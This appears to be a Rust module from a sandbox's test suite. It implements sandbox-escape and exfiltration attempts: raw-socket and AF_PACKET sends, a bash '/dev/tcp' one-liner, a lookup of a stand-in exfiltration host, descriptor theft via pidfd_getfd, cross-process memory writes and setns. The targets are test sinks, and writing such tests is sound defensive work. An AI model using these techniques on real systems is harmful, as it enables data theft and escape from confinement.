//! How each attack of [`super::attacks`] is carried out.
#![expect(unsafe_code, reason = "attacks are raw system calls")]

use std::ffi::CString;
use std::io;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use super::attacks::AttackTargets;

/// One attack's equipment.
pub(super) struct Shot {
    pub(super) targets: AttackTargets,
    pub(super) bait: Option<u16>,
    pub(super) token: String,
}

impl Shot {
    pub(super) fn v4(&self) -> Vec<u8> {
        let mut bytes = family(libc::AF_INET);
        bytes.extend(self.targets.port.to_be_bytes());
        bytes.extend([127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
        bytes
    }

    pub(super) fn v6(&self) -> Vec<u8> {
        let mut bytes = family(libc::AF_INET6);
        bytes.extend(self.targets.port.to_be_bytes());
        bytes.extend([0; 4]);
        bytes.extend(std::net::Ipv6Addr::LOCALHOST.octets());
        bytes.extend([0; 4]);
        bytes
    }

    pub(super) fn abstract_name(&self) -> Vec<u8> {
        let mut bytes = family(libc::AF_UNIX);
        bytes.push(0);
        bytes.extend(self.targets.unix_abstract.as_bytes());
        bytes
    }

    pub(super) fn victim(&self) -> i64 {
        self.targets.victim.into()
    }
}

pub(super) fn family(family: i32) -> Vec<u8> {
    u16::try_from(family).unwrap().to_ne_bytes().to_vec()
}

pub(super) fn unix(path: &Path) -> Vec<u8> {
    let mut bytes = family(libc::AF_UNIX);
    bytes.extend(path.as_os_str().as_bytes());
    bytes.push(0);
    bytes
}

pub(super) fn path(path: &Path) -> CString {
    CString::new(path.as_os_str().as_bytes()).unwrap()
}

/// A raw call. Addresses among the arguments are of values that the caller keeps alive.
pub(super) fn call(number: i64, a: [i64; 6]) -> io::Result<i64> {
    // SAFETY: as said above; the process under test is thrown away afterwards.
    let result = unsafe { libc::syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]) };
    if result < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(result)
    }
}

pub(super) fn address<T: ?Sized>(value: &T) -> i64 {
    std::ptr::from_ref(value).cast::<u8>() as i64
}

pub(super) fn address_mut<T: ?Sized>(value: &mut T) -> i64 {
    std::ptr::from_mut(value).cast::<u8>() as i64
}

pub(super) fn length<T>(values: &[T]) -> i64 {
    i64::try_from(values.len()).unwrap()
}

pub(super) fn close(fd: i64) {
    let _closed = call(libc::SYS_close, [fd, 0, 0, 0, 0, 0]);
}

pub(super) fn close_pair(pair: [i32; 2]) -> impl FnOnce(i64) {
    move |_| {
        pair.into_iter()
            .map(i64::from)
            .filter(|fd| *fd > 2)
            .for_each(close)
    }
}

pub(super) fn socket(family: i32, kind: i32, protocol: i32) -> io::Result<i64> {
    call(
        libc::SYS_socket,
        [family.into(), kind.into(), protocol.into(), 0, 0, 0],
    )
}

pub(super) fn open_socket(family: i32, kind: i32, protocol: i32) -> io::Result<()> {
    socket(family, kind, protocol).map(close)
}

pub(super) fn with_socket(fd: i64, attack: impl FnOnce(i64) -> io::Result<i64>) -> io::Result<()> {
    let result = attack(fd);
    close(fd);
    result.map(drop)
}

pub(super) fn write(fd: i64, token: &str) -> io::Result<i64> {
    call(
        libc::SYS_write,
        [fd, address(token), length(token.as_bytes()), 0, 0, 0],
    )
}

pub(super) fn connect(fd: i64, to: &[u8]) -> io::Result<i64> {
    call(libc::SYS_connect, [fd, address(to), length(to), 0, 0, 0])
}

pub(super) fn connect_and_write(
    family: i32,
    kind: i32,
    protocol: i32,
    to: &[u8],
    s: &Shot,
) -> io::Result<()> {
    with_socket(socket(family, kind, protocol)?, |fd| {
        connect(fd, to).and_then(|_| write(fd, &s.token))
    })
}

pub(super) fn send_to(
    family: i32,
    kind: i32,
    protocol: i32,
    flags: i32,
    to: &[u8],
    s: &Shot,
) -> io::Result<()> {
    with_socket(socket(family, kind, protocol)?, |fd| {
        let token = s.token.as_bytes();
        call(
            libc::SYS_sendto,
            [
                fd,
                address(token),
                length(token),
                flags.into(),
                address(to),
                length(to),
            ],
        )
    })
}

#[expect(
    clippy::disallowed_types,
    clippy::disallowed_methods,
    reason = "this is the attack"
)]
pub(super) fn tcp_std(s: &Shot) -> io::Result<()> {
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", s.targets.port))?;
    io::Write::write_all(&mut stream, s.token.as_bytes())
}

pub(super) fn fast_open_option(s: &Shot) -> io::Result<()> {
    const TCP_FASTOPEN_CONNECT: i64 = 30;
    with_socket(socket(libc::AF_INET, libc::SOCK_STREAM, 0)?, |fd| {
        call(
            libc::SYS_setsockopt,
            [
                fd,
                libc::IPPROTO_TCP.into(),
                TCP_FASTOPEN_CONNECT,
                address(&1_i32),
                4,
                0,
            ],
        )?;
        connect(fd, &s.v4()).and_then(|_| write(fd, &s.token))
    })
}

pub(super) fn send_message(s: &Shot, number: i64) -> io::Result<()> {
    let to = s.v4();
    let part = [address(s.token.as_bytes()), length(s.token.as_bytes())];
    // `struct mmsghdr` begins with a `struct msghdr`, so one layout serves both calls.
    let message = [
        address(to.as_slice()),
        length(&to),
        address(&part),
        1,
        0,
        0,
        0,
        0,
    ];
    let count = i64::from(number == libc::SYS_sendmmsg);
    with_socket(socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?, |fd| {
        call(number, [fd, address(&message), count, 0, 0, 0])
    })
}

pub(super) fn name_lookup(_: &Shot) -> io::Result<()> {
    use std::net::ToSocketAddrs;
    ("token.exfiltration.example", 80)
        .to_socket_addrs()
        .map(drop)
}

/// A hand-made IPv4 and UDP frame: it passes no hook of the IP output path.
pub(super) fn packet_frame(s: &Shot) -> io::Result<()> {
    let token = s.token.as_bytes();
    let total = u16::try_from(28 + token.len()).unwrap().to_be_bytes();
    let mut frame = vec![
        0x45, 0, total[0], total[1], 0, 1, 0, 0, 64, 17, 0, 0, 127, 0, 0, 1, 127, 0, 0, 1,
    ];
    let words = frame
        .chunks_exact(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum: u32 = words.sum();
    let sum = !u16::try_from((sum & 0xffff) + (sum >> 16)).unwrap();
    frame[10..12].copy_from_slice(&sum.to_be_bytes());
    frame.extend(40000_u16.to_be_bytes());
    frame.extend(s.targets.port.to_be_bytes());
    frame.extend(u16::try_from(8 + token.len()).unwrap().to_be_bytes());
    frame.extend([0, 0]);
    frame.extend(token);
    let mut to = family(libc::AF_PACKET);
    to.extend(0x0800_u16.to_be_bytes());
    to.extend(1_i32.to_ne_bytes());
    to.extend([0, 0, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0]);
    let protocol = i32::from(0x0800_u16.to_be());
    with_socket(socket(libc::AF_PACKET, libc::SOCK_DGRAM, protocol)?, |fd| {
        call(
            libc::SYS_sendto,
            [
                fd,
                address(frame.as_slice()),
                length(&frame),
                0,
                address(to.as_slice()),
                length(&to),
            ],
        )
    })
}

/// An accepted connection is a socket already: unconnect it, then connect it to the sink.
pub(super) fn turn_accepted_round(s: &Shot) -> io::Result<()> {
    let accepted = (3..1024).find(|fd| {
        let mut peer = [0_u8; 28];
        let mut size = 28_u32;
        let named = call(
            libc::SYS_getpeername,
            [*fd, address_mut(&mut peer), address_mut(&mut size), 0, 0, 0],
        );
        let port = u16::from_be_bytes([peer[2], peer[3]]);
        named.is_ok()
            && peer[..2] == family(libc::AF_INET)[..]
            && s.bait.is_none_or(|bait| bait == port)
    });
    let Some(fd) = accepted else {
        panic!("no accepted connection to turn round: the attack was not tried");
    };
    // Its owner closes the descriptor when the peer's end is gone; a duplicate stays.
    let fd = call(
        libc::SYS_fcntl,
        [fd, libc::F_DUPFD_CLOEXEC.into(), 3, 0, 0, 0],
    )?;
    connect(fd, &[0; 16])?;
    // Its owner sees an end and shuts the socket down; unconnecting once more undoes that.
    super::sink::pause(50);
    connect(fd, &[0; 16])?;
    let flags = call(libc::SYS_fcntl, [fd, libc::F_GETFL.into(), 0, 0, 0, 0])?;
    call(
        libc::SYS_fcntl,
        [
            fd,
            libc::F_SETFL.into(),
            flags & !i64::from(libc::O_NONBLOCK),
            0,
            0,
            0,
        ],
    )?;
    connect(fd, &s.v4())
        .and_then(|_| write(fd, &s.token))
        .map(drop)
}

pub(super) fn listener(s: &Shot) -> io::Result<()> {
    let mut here = s.v4();
    here[2..4].copy_from_slice(&[0, 0]);
    with_socket(socket(libc::AF_INET, libc::SOCK_STREAM, 0)?, |fd| {
        call(
            libc::SYS_bind,
            [fd, address(here.as_slice()), length(&here), 0, 0, 0],
        )?;
        call(libc::SYS_listen, [fd, 1, 0, 0, 0, 0])
    })
}

pub(super) fn auto_bind(_: &Shot) -> io::Result<()> {
    with_socket(socket(libc::AF_INET, libc::SOCK_STREAM, 0)?, |fd| {
        call(libc::SYS_listen, [fd, 1, 0, 0, 0, 0])
    })
}

#[expect(clippy::disallowed_methods, reason = "this is the attack")]
pub(super) fn exec_shell(s: &Shot) -> io::Result<()> {
    let script = format!(
        "echo '{}' > /dev/tcp/127.0.0.1/{}",
        s.token.trim(),
        s.targets.port
    );
    let status = std::process::Command::new("/bin/bash")
        .arg("-c")
        .arg(script)
        .status()?;
    if status.success() {
        Ok(())
    } else {
        Err(io::Error::other("the shell could not connect"))
    }
}

#[expect(clippy::disallowed_methods, reason = "this is the attack")]
pub(super) fn program(path: &str) -> io::Result<()> {
    std::process::Command::new(path).status().map(drop)
}

/// Runs raw calls in a child, which ends at once. It goes through when the child could start.
pub(super) fn in_child(attack: impl FnOnce()) -> io::Result<()> {
    let child = call(libc::SYS_clone, [libc::SIGCHLD.into(), 0, 0, 0, 0, 0])?;
    if child == 0 {
        attack();
        let _ends = call(libc::SYS_exit_group, [0; 6]);
    }
    call(libc::SYS_wait4, [child, 0, 0, 0, 0, 0]).map(drop)
}

pub(super) fn fork_connect(s: &Shot) -> io::Result<()> {
    let to = s.v4();
    in_child(|| {
        let sent = socket(libc::AF_INET, libc::SOCK_STREAM, 0)
            .and_then(|fd| connect(fd, &to).and_then(|_| write(fd, &s.token)));
        drop(sent);
    })
}

pub(super) fn memory_program(_: &Shot) -> io::Result<()> {
    let file = call(
        libc::SYS_memfd_create,
        [c"x".as_ptr() as i64, 0, 0, 0, 0, 0],
    )?;
    let code = std::fs::read("/bin/true")?;
    call(
        libc::SYS_write,
        [file, address(code.as_slice()), length(&code), 0, 0, 0],
    )?;
    in_child(|| {
        drop(call(
            libc::SYS_execveat,
            [
                file,
                c"".as_ptr() as i64,
                0,
                0,
                libc::AT_EMPTY_PATH.into(),
                0,
            ],
        ))
    })
}

pub(super) fn vm(s: &Shot, number: i64) -> io::Result<i64> {
    let mut bytes = [0_u8; 8];
    let here = [address_mut(&mut bytes), 8];
    let there = [s.targets.victim_address.cast_signed(), 8];
    // Writing: first read, so that the victim's memory stays as it is.
    let reading = call(
        libc::SYS_process_vm_readv,
        [s.victim(), address(&here), 1, address(&there), 1, 0],
    );
    if number == libc::SYS_process_vm_readv {
        return reading;
    }
    call(
        number,
        [s.victim(), address(&here), 1, address(&there), 1, 0],
    )
}

pub(super) fn steal_socket(s: &Shot) -> io::Result<()> {
    let process = call(libc::SYS_pidfd_open, [s.victim(), 0, 0, 0, 0, 0])?;
    let stolen = call(libc::SYS_pidfd_getfd, [process, 0, 0, 0, 0, 0])?;
    with_socket(stolen, |fd| write(fd, &s.token))
}

pub(super) fn write_open(path: &str) -> io::Result<()> {
    std::fs::OpenOptions::new().write(true).open(path).map(drop)
}

pub(super) fn set_namespace(s: &Shot) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let namespace = std::fs::File::open(format!("/proc/{}/ns/uts", s.targets.victim))?;
    call(
        libc::SYS_setns,
        [namespace.as_raw_fd().into(), 0, 0, 0, 0, 0],
    )
    .map(drop)
}

pub(super) fn truncating_read(s: &Shot) -> io::Result<()> {
    let file = path(&s.targets.outside.join("secret"));
    let flags = i64::from(libc::O_RDONLY | libc::O_TRUNC);
    call(
        libc::SYS_openat,
        [-100, file.as_ptr() as i64, flags, 0, 0, 0],
    )?;
    std::fs::write(s.targets.outside.join("secret"), "secret")
}

pub(super) fn rename_out(s: &Shot) -> io::Result<()> {
    let from = s.targets.data.join("to-rename");
    std::fs::write(&from, "x")?;
    std::fs::rename(from, s.targets.outside.join("renamed"))
}

pub(super) fn make_node(s: &Shot, kind: u32) -> io::Result<()> {
    let node = path(&s.targets.data.join(format!("node-{kind:o}")));
    call(
        libc::SYS_mknodat,
        [-100, node.as_ptr() as i64, i64::from(kind | 0o600), 0, 0, 0],
    )
    .map(drop)
}

pub(super) fn open_by_handle(s: &Shot) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let file = path(&s.targets.outside.join("secret"));
    let mut handle = [0_u32; 34];
    handle[0] = 128;
    let mut mount = 0_i32;
    let names = [
        -100,
        file.as_ptr() as i64,
        address_mut(&mut handle),
        address_mut(&mut mount),
        0,
        0,
    ];
    call(libc::SYS_name_to_handle_at, names)?;
    let folder = std::fs::File::open(&s.targets.data)?;
    call(
        libc::SYS_open_by_handle_at,
        [folder.as_raw_fd().into(), address(&handle), 0, 0, 0, 0],
    )
    .map(close)
}

pub(super) fn map(protection: i32) -> io::Result<i64> {
    let kind = i64::from(libc::MAP_PRIVATE | libc::MAP_ANONYMOUS);
    call(libc::SYS_mmap, [0, 4096, protection.into(), kind, -1, 0])
}
